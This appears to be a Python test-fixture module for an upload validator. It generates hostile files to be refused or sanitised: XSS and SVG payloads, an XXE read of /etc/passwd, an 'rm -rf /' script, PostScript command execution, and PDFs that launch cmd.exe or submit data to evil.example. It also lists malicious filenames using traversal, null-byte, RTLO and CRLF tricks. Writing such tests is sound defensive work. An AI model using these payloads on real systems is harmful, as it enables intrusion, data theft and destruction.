"""Files that somebody with bad intentions, or a bad scanner, could upload. Each is made here; none is kept in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

from PIL import Image, PngImagePlugin

SCRIPT: Final = b"<script>alert(document.domain)</script>"


def a_pdf(*objects: bytes, root: bytes = b"<< /Type /Catalog /Pages 2 0 R >>", trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A whole PDF of one empty page with these further objects."""
    bodies = [root, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>", *objects]
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, start)
    return bytes(out + tail)


def a_stream(content: bytes, dictionary: bytes = b"/Filter /FlateDecode", *, packed: bool = True) -> bytes:
    """A stream object of a PDF."""
    data = zlib.compress(content) if packed else content
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def an_object_stream(content: bytes, dictionary: bytes = b"/Filter /FlateDecode", *, packed: bool = True) -> bytes:
    return a_stream(b"9 0 " + content, b"/Type /ObjStm /N 1 /First 4 " + dictionary, packed=packed)


def a_picture(kind: str, size: tuple[int, int] = (40, 30), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind)
    return out.getvalue()


def a_png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says it has this size, whatever it holds."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(data, 9)) + chunk(b"IEND", b"")


def a_png_with_words() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", SCRIPT.decode())
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=words)
    return out.getvalue()


def a_jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()
    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 0.0)}
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG", exif=exif, comment=SCRIPT)
    return out.getvalue()


def an_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("letter.docm", SCRIPT)
    return out.getvalue()


ACTION: Final = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
UNREAD: Final = b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01"  # packed as nobody here unpacks
EICAR: Final = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CATALOG: Final = b"<< /Type /Catalog /Pages 2 0 R %s >>"

Made = Callable[[], bytes]

# Name as it is sent, and the file. Each must be refused.
REFUSED: Final[dict[str, tuple[str, Made]]] = {
    "nothing at all": ("scan.pdf", lambda: b""),
    "one byte": ("scan.png", lambda: b"\x89"),
    "HTML named PDF": ("scan.pdf", lambda: b"<!DOCTYPE html><html>" + SCRIPT),
    "HTML after the head of a PDF": ("scan.pdf", lambda: b"%PDF-1.7\n<html>" + SCRIPT),
    "HTML before a PDF": ("scan.pdf", lambda: SCRIPT + b"\n" + a_pdf()),
    "HTML after a PDF": ("scan.pdf", lambda: a_pdf(tail=b"<html>" + SCRIPT)),
    "SVG with a script": ("scan.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
    "SVG named PNG": ("scan.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    "XML with an entity": ("scan.pdf", lambda: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "UTF-7 HTML": ("scan.pdf", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "UTF-16 HTML": ("scan.jpg", lambda: "<html><script>alert(1)</script>".encode("utf-16")),
    "GIF that is a script": ("scan.gif", lambda: b"GIF89a/*\x00\x00*/=1;alert(1)//;"),
    "GIF": ("scan.jpg", lambda: a_picture("GIF", mode="P")),
    "WebP": ("scan.png", lambda: a_picture("WEBP")),
    "TIFF": ("scan.png", lambda: a_picture("TIFF")),
    "BMP": ("scan.png", lambda: a_picture("BMP")),
    "icon": ("scan.png", lambda: a_picture("ICO")),
    "JavaScript": ("scan.js", lambda: b"alert(document.cookie)"),
    "shell script": ("scan.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "program for Windows": ("scan.pdf.exe", lambda: b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"),
    "program for Linux": ("scan.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(64)),
    "film": ("scan.jpg", lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(64)),
    "archive": ("scan.pdf", an_archive),
    "archive after a PDF": ("scan.pdf", lambda: a_pdf(tail=an_archive())),
    "text that virus scanners know": ("scan.pdf", lambda: EICAR),
    "PostScript": ("scan.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"),
    "null bytes": ("scan.pdf", lambda: bytes(4096)),
    "PDF cut off": ("scan.pdf", lambda: a_pdf()[:-120]),
    "PDF without its table": ("scan.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<< /Root 1 0 R >>\nendobj\nstartxref\n9999999\n%%EOF"),
    "PDF of a version that is none": ("scan.pdf", lambda: a_pdf().replace(b"%PDF-1.7", b"%PDF-9.9")),
    "PDF with a script": ("scan.pdf", lambda: a_pdf(ACTION)),
    "PDF with a script that opens": ("scan.pdf", lambda: a_pdf(root=CATALOG % (b"/OpenAction " + ACTION))),
    "PDF with an escaped name of a script": ("scan.pdf", lambda: a_pdf(b"<< /S /J#61va#53cript /J#53 (1) >>")),
    "PDF with a script behind a comment": ("scan.pdf", lambda: a_pdf(b"<< /S /X /JS%c\n(1) >>")),
    "PDF with a script in an object stream": ("scan.pdf", lambda: a_pdf(an_object_stream(ACTION))),
    "PDF with a script in a stream of any kind": ("scan.pdf", lambda: a_pdf(a_stream(bytes(70_000) + ACTION))),
    "PDF with an object stream packed otherwise": (
        "scan.pdf", lambda: a_pdf(an_object_stream(ACTION.hex().encode(), b"/Filter /ASCIIHexDecode", packed=False)),
    ),
    "PDF with an object stream packed twice": (
        "scan.pdf", lambda: a_pdf(an_object_stream(zlib.compress(ACTION), b"/Filter [/FlateDecode /FlateDecode]")),
    ),
    "PDF with an object stream through a predictor": (
        "scan.pdf", lambda: a_pdf(an_object_stream(ACTION, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
    ),
    "PDF with an object stream under an escaped name": (
        "scan.pdf", lambda: a_pdf(a_stream(UNREAD, b"/Type /Obj#53tm /Filter /LZWDecode", packed=False)),
    ),
    "PDF with an object stream behind a false beginning": (
        "scan.pdf", lambda: a_pdf(an_object_stream(UNREAD, b"%stream\n/Filter /LZWDecode", packed=False)),
    ),
    "PDF with the kind of an object stream elsewhere": ("scan.pdf", lambda: a_pdf(b"/ObjStm")),
    "PDF with an object stream named inside another": ("scan.pdf", lambda: a_pdf(an_object_stream(b"/ObjStm "))),
    "PDF that starts a program": ("scan.pdf", lambda: a_pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "PDF with a file inside": ("scan.pdf", lambda: a_pdf(a_stream(an_archive(), b"/Type /EmbeddedFile"))),
    "PDF with a list of files inside": ("scan.pdf", lambda: a_pdf(root=CATALOG % b"/Names << /EmbeddedFiles 4 0 R >>")),
    "PDF that acts on a page": ("scan.pdf", lambda: a_pdf(b"<< /AA << /O 5 0 R >> >>")),
    "PDF with a form of its own kind": ("scan.pdf", lambda: a_pdf(b"<< /XFA [(template) 5 0 R] >>")),
    "PDF that sends what is typed": ("scan.pdf", lambda: a_pdf(b"<< /S /SubmitForm /F (https://evil.example) >>")),
    "PDF that opens another": ("scan.pdf", lambda: a_pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>")),
    "PDF under a password": ("scan.pdf", lambda: a_pdf(b"<< /Filter /Standard /V 4 >>", trailer=b"/Encrypt 4 0 R")),
    "PDF that unpacks to 300 MB": ("scan.pdf", lambda: a_pdf(a_stream(bytes(300_000_000)))),
    "PNG of 60000 by 60000": ("scan.png", lambda: a_png_of(60_000, 60_000)),
    "PNG without pixels": ("scan.png", lambda: a_png_of(0, 0)),
    "PNG cut off": ("scan.png", lambda: a_picture("PNG", (300, 300))[:-40]),
    "PNG of another kind inside": ("scan.png", lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT * 20),
    "JPEG cut off": ("scan.jpg", lambda: a_picture("JPEG", (300, 300))[:-200]),
    "JPEG that is HTML": ("scan.jpg", lambda: b"\xff\xd8\xff\xe0" + b"<html>" + SCRIPT),
    "JPEG of 65000 by 65000": (
        "scan.jpg", lambda: a_picture("JPEG").replace(b"\x00\x1e\x00\x28", b"\xfd\xe8\xfd\xe8", 1),
    ),
    "larger than is kept": ("scan.png", lambda: a_picture("PNG") + bytes(10_000_001)),
}  # fmt: skip

# Files that are kept, but not as they were sent.
CLEANED: Final[dict[str, tuple[str, Made]]] = {
    "PNG with a script in its words": ("scan.png", a_png_with_words),
    "JPEG with a script in its notes, and the place": ("scan.jpg", a_jpeg_with_exif),
    "PNG that unpacks to much more than it shows": ("scan.png", lambda: a_png_of(600, 600, bytes(90_000_000))),
    "PNG with HTML after its end": ("scan.png", lambda: a_picture("PNG") + SCRIPT),
    "JPEG with an archive after its end": ("scan.jpg", lambda: a_picture("JPEG") + an_archive()),
    "JPEG with a program after its end": ("scan.jpg", lambda: a_picture("JPEG") + b"MZ" + SCRIPT),
}

# Names that are sent with a harmless picture, and the names that are kept.
NAMES: Final[dict[str, str]] = {
    "../../../etc/passwd": "passwd.png",
    "..\\..\\windows\\system32\\drivers.png": "drivers.png",
    "/var/www/shell.php": "shell.png",
    "scan.png.exe": "scan-png.png",
    "scan.php.png": "scan-php.png",
    "scan.png\x00.html": "scan-png.png",
    "scan\u202egnp.exe": "scangnp.png",
    '"><script>alert(1)</script>.png': "script.png",
    "a.png\r\nSet-Cookie: x=1": "a.png",
    ".htaccess": "htaccess.png",
    "con.png": "document-con.png",
    "   .png": "document.png",
    "": "document.png",
    "Направление от 12.05.png": "Направление от 12-05.png",
    "file\uff0fname.png": "name.png",
    "n" * 300 + ".png": "n" * 100 + ".png",
}
